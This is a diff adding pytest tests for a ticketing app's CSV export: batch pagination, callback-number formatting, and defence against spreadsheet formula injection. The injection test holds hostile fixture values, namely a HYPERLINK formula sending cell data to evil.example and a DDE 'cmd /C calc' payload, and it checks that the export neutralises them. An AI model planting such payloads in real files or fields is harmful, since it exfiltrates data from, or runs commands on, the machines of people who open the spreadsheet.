@@ -14,6 +14,7 @@ from flask import Flask
 from sqlalchemy import select
 from sqlalchemy.orm import Session
 
+from scheduler import exports
 from tests.scheduler import report_fixture as fx
 from tickets import accounts
 from tickets.clock import FrozenClock
@@ -360,6 +361,67 @@ def test_monthly_csv_matches_the_monthly_figures(
         assert int(figures["접수"]) == len(chosen)
         assert int(figures["장비활용"]) == sum(s.support_type == "equipment" for s in chosen)
         assert int(figures["기한 내 완료"]) == sum(map(fx.met, chosen))
+
+
+def test_ticket_csv_reads_batch_after_batch_without_losing_or_repeating_a_ticket(
+    session: Session,
+    client: Any,
+    supervisor: User,
+    history: list[fx.Spec],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(exports, "BATCH", 7)
+    # Ten tickets received in the same second straddle a batch boundary: order and resume by id too.
+    same_second = fx.NOW - timedelta(days=1)
+    for index in range(10):
+        session.add(Ticket(reference=f"5{index:03d}-0000", field="it", created_at=same_second))
+    session.commit()
+    _log_in(client, supervisor)
+    _, *rows = _csv_rows(client.get("/supervisor/export/tickets.csv?first=2026-10-01&last=2026-11-27"))
+    expected = fx.in_period(history, date(2026, 10, 1), date(2026, 11, 27))
+    references = [r[0] for r in rows]
+    assert len(references) == len(set(references))
+    assert set(references) >= {s.reference for s in expected} | {f"5{i:03d}-0000" for i in range(10)}
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    session: Session, client: Any, supervisor: User, clocked: Flask, start: str
+) -> None:
+    # An admin sets display names; the company and notes a caller or consultant types are not exported,
+    # and no cell at all may start a formula.
+    name = f'{start}HYPERLINK("http://evil.example/?x="&A1,"상담원")'
+    consultant = _user(session, "sneaky", "consultant", ("it",))
+    consultant.display_name = name
+    ticket = Ticket(
+        reference="6000-0000", field="it", status="assigned", assignee=consultant, created_at=fx.NOW
+    )
+    session.add(ticket)
+    session.flush()
+    session.add(TicketEvent(ticket=ticket, type="note", detail={"text": f"{start}cmd|' /C calc'!A0"}))
+    session.commit()
+    _log_in(client, supervisor)
+    header, *rows = _csv_rows(client.get("/supervisor/export/tickets.csv?first=2026-11-27&last=2026-11-27"))
+    row = dict(zip(header, rows[0], strict=True))
+    assert row["담당자"] == "'" + name
+    assert not [cell for r in [header, *rows] for cell in r if cell.startswith(FORMULA_STARTS)]
+
+
+def test_callback_numbers_in_the_csv_read_as_dialled(
+    session: Session, client: Any, supervisor: User, clocked: Flask
+) -> None:
+    for reference, number in (("7000-0000", "+821012345678"), ("7001-0000", "+16502530000")):
+        session.add(Ticket(reference=reference, field="it", callback_number=number, created_at=fx.NOW))
+    session.commit()
+    _log_in(client, supervisor)
+    header, *rows = _csv_rows(client.get("/supervisor/export/tickets.csv?first=2026-11-27&last=2026-11-27"))
+    numbers = {r[0]: dict(zip(header, r, strict=True))["회신번호"] for r in rows}
+    # A Korean number as people here dial it; a foreign one keeps its + behind the quote that keeps
+    # the spreadsheet from computing it.
+    assert numbers == {"7000-0000": "010-1234-5678", "7001-0000": "'+1 650-253-0000"}
 
 
 # --- actions ----------------------------------------------------------------------------------------------
